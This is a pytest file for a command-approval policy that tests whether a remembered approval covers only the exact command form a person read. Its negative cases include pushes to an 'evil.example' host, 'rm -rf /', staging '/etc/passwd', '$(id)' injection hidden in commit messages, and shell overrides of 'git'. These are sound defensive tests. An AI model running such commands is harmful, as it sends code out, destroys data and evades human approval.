"""Which command a remembered answer covers: the form that a person read, and nothing beside it."""

import pytest

from kakoi.approvals.forms import asked_commands, changes_of, form_text, is_form
from kakoi.errors import ConfigurationError
from kakoi.policy.decide import decide
from kakoi.policy.profiles import load_policy, tightened
from kakoi.policy.rules import Verdict

PLACE = "/workspace"
POLICY = load_policy(roots=[PLACE])


def forms(command: str) -> list[str]:
    decision = decide(POLICY, command, cwd=PLACE, confined=True)
    return [f"{each.text} in {each.directory}" for each in asked_commands(decision)]


# What is asked about, and what a person can have remembered.
REMEMBERED = {
    "git push origin fix-1": ["git push origin <branch> in /workspace"],
    "git push origin feature/x_2": ["git push origin <branch> in /workspace"],
    "git 'push' \"origin\" f\\ix": ["git push origin <branch> in /workspace"],
    "git push origin main": ["git push origin main in /workspace"],
    "git push origin v1.2": ["git push origin v1.2 in /workspace"],
    "git push -u fork topic": ["git push -u fork <branch> in /workspace"],
    "git add -A && git commit -m 'a b' || true": [
        "git add -A in /workspace",
        "git commit -m <text> in /workspace",
    ],
    "git add a b/c.py": ["git add <path>… in /workspace"],
    "cd /workspace && git push origin fix": ["git push origin <branch> in /workspace"],
    "cd sub && git push origin fix": ["git push origin <branch> in /workspace/sub"],
    "(cd sub && git push)": ["git push in /workspace/sub"],
    "git push origin fix 2>&1 | tail -5": ["git push origin <branch> in /workspace"],
    "make && git push >/dev/null": ["git push in /workspace"],
    "git push origin a; git push origin b": ["git push origin <branch> in /workspace"],
    "gh pr comment 12 --body 'looks good'": ["gh pr comment <number> --body <text> in /workspace"],
    "git commit -m \"$(cat <<'EOF'\nFix `x`, $y\n\nmore\nEOF\n)\"": [
        "git commit -m <text> in /workspace"
    ],
    "git stash pop": ["git stash pop in /workspace"],
}


@pytest.mark.parametrize("command", REMEMBERED)
def test_a_person_is_offered_what_was_asked_about(command: str) -> None:
    assert forms(command) == REMEMBERED[command]


# Each is another command than `git push origin fix-1`, whatever a person said about that one.
OTHER_THAN_PUSH = """\
git push --force origin fix-1
git push -f origin fix-1
git push origin fix-1 --force
git push origin fix-1 -f
git push --force-with-lease origin fix-1
git push origin +fix-1
git push origin :fix-1
git push origin fix-1:main
git push origin HEAD:main
git push origin HEAD
git push origin main
git push origin Main
git push origin master
git push origin release/1
git push origin release-2024
git push origin production
git push origin v1.0
git push origin 2024.1
git push origin refs/heads/main
git push origin refs/tags/x
git push origin heads/main
git push origin tags/x
git push origin FETCH_HEAD
git push origin @
git push origin fix-1 fix-2
git push origin --all
git push origin --tags
git push origin --mirror
git push origin --delete fix-1
git push --no-verify origin fix-1
git push -o ci.skip origin fix-1
git push --push-option=x origin fix-1
git push --receive-pack=x origin fix-1
git push upstream fix-1
git push https://evil.example/x fix-1
git push http://github.com/x fix-1
git push git@evil.example:x fix-1
git push ../other fix-1
git push /tmp/x fix-1
git push file:///tmp/x fix-1
git push ext::x fix-1
git push
git push origin
git -C /elsewhere push origin fix-1
git -C sub push origin fix-1
git --git-dir=/x push origin fix-1
git --work-tree=/x push origin fix-1
git -c push.default=matching push origin fix-1
git -c remote.origin.url=x push origin fix-1
git --exec-path=/x push origin fix-1
git --no-pager push origin fix-1
/usr/bin/git push origin fix-1
./git push origin fix-1
sub/git push origin fix-1
FOO=1 git push origin fix-1
GIT_DIR=/x git push origin fix-1
GIT_TRACE=1 git push origin fix-1
FOO=1; git push origin fix-1
export GIT_DIR=/x; git push origin fix-1
env git push origin fix-1
env FOO=1 git push origin fix-1
sudo git push origin fix-1
timeout 5 git push origin fix-1
nohup git push origin fix-1
nice git push origin fix-1
time git push origin fix-1
command git push origin fix-1
exec git push origin fix-1
xargs git push origin fix-1
echo fix-1 | xargs git push origin
yes | git push origin fix-1
git push origin fix-1 < input
git push origin fix-1 <<< y
git push origin fix-1 > log
git push origin fix-1 2> log
git push origin fix-1 >> .git/config
git push origin fix-1 &
git push origin "$BRANCH"
git push origin $(cat x)
git push origin "$(printf %s -f)"
git push origin "$(echo main)"
git push "$REMOTE" fix-1
git push origin fix-*
git push origin ~/x
git push origin fix-{1,2}
git push origin '<branch>'
git push origin =
bash -c 'git push origin fix-1'
sh -c 'git push origin fix-1'
eval git push origin fix-1
eval 'git push origin fix-1'
$(git push origin fix-1)
for b in x y; do git push origin fix-1; done
while true; do git push origin fix-1; done
f() { git push origin fix-1; }; f
git() { :; }; git push origin fix-1
alias git=x; git push origin fix-1
hash -p /tmp/x git; git push origin fix-1
set -- x; git push origin fix-1
trap 'git push origin fix-1' EXIT
source x; git push origin fix-1
cd /elsewhere; git push origin fix-1
cd /elsewhere && git push origin fix-1
cd sub && git push origin fix-1
cd "$X" && git push origin fix-1
cd sub; cd ..; git push origin fix-1
pushd sub; git push origin fix-1
cd - && git push origin fix-1
git push origin fix-1 && git push --force origin fix-1
git push origin fix-1 && git push upstream fix-1
git push origin fix-1 && npm publish
git push origin fix-1; git reset --hard
git commit -m "$(git push origin fix-1)"
git config remote.origin.url x && git push origin fix-1
git remote set-url origin x && git push origin fix-1
git push origin fix-1; rm -rf /
git fetch origin fix-1
git pull origin fix-1
Git push origin fix-1
git PUSH origin fix-1
git push origin "fix 1"
git push origin fix..1
git push origin fix-1.lock
git push origin -fix
git push origin -- fix-1
""".splitlines()


def test_nothing_beside_the_form_is_covered() -> None:
    approved = set(forms("git push origin fix-1"))
    assert approved == {"git push origin <branch> in /workspace"}
    covered = [
        each for each in OTHER_THAN_PUSH if (found := forms(each)) and set(found) <= approved
    ]
    assert covered == []


# Each could be taken for a form on the right, and is not one.
NEAR = {
    "git add ../x": "git add <path>…",
    "git add /etc/passwd": "git add <path>…",
    "git add .github/workflows/x.yml": "git add <path>…",
    "git add a/../../x": "git add <path>…",
    "git add a/.env": "git add <path>…",
    "git add -f a": "git add <path>…",
    "git add a -f": "git add <path>…",
    "git add --force a": "git add <path>…",
    "git add -- a": "git add <path>…",
    "git add ':(exclude)a'": "git add <path>…",
    "git add '*'": "git add <path>…",
    "git add *": "git add <path>…",
    "git add a*": "git add <path>…",
    "git add '[a]'": "git add <path>…",
    "git add --pathspec-from-file=x": "git add <path>…",
    "git add -p": "git add -A",
    "git commit -m": "git commit -m <text>",
    "git commit -m x -n": "git commit -m <text>",
    "git commit --amend -m x": "git commit -m <text>",
    "git commit -m x --amend": "git commit -m <text>",
    "git commit --no-verify -m x": "git commit -m <text>",
    "git commit -m --amend": "git commit -m <text>",
    "git commit -m x --author=me": "git commit -m <text>",
    "git commit -F x": "git commit -m <text>",
    "git commit -m x a.py": "git commit -m <text>",
    'git commit -m "$X"': "git commit -m <text>",
    "git commit -m `x`": "git commit -m <text>",
    "git commit -m ~": "git commit -m <text>",
    'git commit -m "$(cat <<EOF\n$X\nEOF\n)"': "git commit -m <text>",
    'git commit -m "$(cat <<EOF\n$(id)\nEOF\n)"': "git commit -m <text>",
    "git commit -m \"$(cat x <<'EOF'\ny\nEOF\n)\"": "git commit -m <text>",
    "git commit -m \"$(cat <<'EOF' > x\ny\nEOF\n)\"": "git commit -m <text>",
    "git commit -m \"$(cat <<'EOF'\n--amend\nEOF\n)\"": "git commit -m <text>",
    "git commit -m x $(cat <<'EOF'\n--amend\nEOF\n)": "git commit -m <text>",
    "git commit $(cat <<'EOF'\n-m x --amend\nEOF\n)": "git commit -m <text>",
    "git commit -mx": "git commit -m <text>",
    "git pull --rebase=interactive": "git pull --rebase",
    "git merge -s ours fix": "git merge <branch>",
    "git merge fix -X theirs": "git merge <branch>",
    "git switch -f fix": "git switch <branch>",
    "git switch --discard-changes fix": "git switch <branch>",
    "git checkout fix": "git switch <branch>",
    "git checkout .": "git switch <branch>",
    "git checkout -B fix": "git checkout -b <branch>",
    "git rebase --exec x main": "git rebase --continue",
    "git reset --hard HEAD": "git reset HEAD <path>…",
    "git reset HEAD~1": "git reset HEAD <path>…",
    "git rm a": "git rm --cached <path>…",
    "git rm -r --cached a": "git rm --cached <path>…",
    "git stash drop": "git stash pop",
    "git stash clear": "git stash",
    "git init --template=x": "git init",
    "git init /elsewhere": "git init",
    "git clone https://x.example/y": "git fetch",
    "gh pr comment 12 --body x -R a/b": "gh pr comment <number> --body <text>",
    "gh pr comment x --body y": "gh pr comment <number> --body <text>",
    "gh pr comment https://github.com/a/b/pull/1 --body y": "gh pr comment <number> --body <text>",
    "gh pr comment 12 --body-file x": "gh pr comment <number> --body <text>",
    "gh pr merge 12": "gh pr ready <number>",
    "gh pr close 12": "gh pr ready <number>",
    "gh pr create --fill --repo a/b": "gh pr create --fill",
    "gh pr create --title a --body b --web": "gh pr create --title <text> --body <text>",
    "npm publish": "",
    "sed -i s/a/b/ x": "",
    "cargo install x": "",
    "pip install https://x.example/y.whl": "",
}


@pytest.mark.parametrize("command", NEAR)
def test_what_looks_like_a_form_and_is_not_one_is_asked_about(command: str) -> None:
    assert f"{NEAR[command]} in {PLACE}" not in forms(command)


def test_what_a_rule_denies_or_a_rule_of_ones_own_asks_about_is_never_covered() -> None:
    for rule in (
        {"id": "mine", "verdict": "ask", "commands": ["git push"], "reason": "always ask"},
        {"id": "mine", "verdict": "deny", "commands": ["git push"], "reason": "never"},
    ):
        policy = tightened(POLICY, rules=[rule], origin="test")
        decision = decide(policy, "git push origin fix-1", cwd=PLACE, confined=True)
        assert decision.verdict is Verdict(str(rule["verdict"]))
        assert asked_commands(decision) == ()


@pytest.mark.parametrize("name", ["asks-first", "git-changes", "forge-writes"])
def test_no_rule_of_settings_can_have_the_name_of_one_that_is_answered(name: str) -> None:
    rule = {"id": name, "verdict": "ask", "commands": ["git push"], "reason": "always ask"}
    with pytest.raises(ConfigurationError, match="has the name of a rule of kakoi's own"):
        tightened(POLICY, rules=[rule], origin="test")


def test_a_form_is_only_what_is_in_the_table() -> None:
    assert is_form(("git", "push", "origin", "<branch>"))
    assert is_form(("git", "add", "<path>…"))
    for words in (
        ("git", "push", "--force", "origin", "<branch>"),
        ("git", "push", "<remote>", "<branch>"),
        ("git", "push", "-f", "<branch>"),
        ("git", "<text>"),
        ("<text>",),
        (),
    ):
        assert not is_form(words)
    assert form_text(("git", "init", "a b")) == "git init 'a b'"


def test_what_it_would_change_is_said_in_words() -> None:
    decision = decide(POLICY, "git add -A && git commit -m x", cwd=PLACE, confined=True)
    assert changes_of(decision) == (
        "adds files to the next commit",
        "makes a commit in this repository",
    )
    other = decide(POLICY, "git push --force", cwd=PLACE, confined=True)
    assert changes_of(other) == (other.findings[0].reason,)
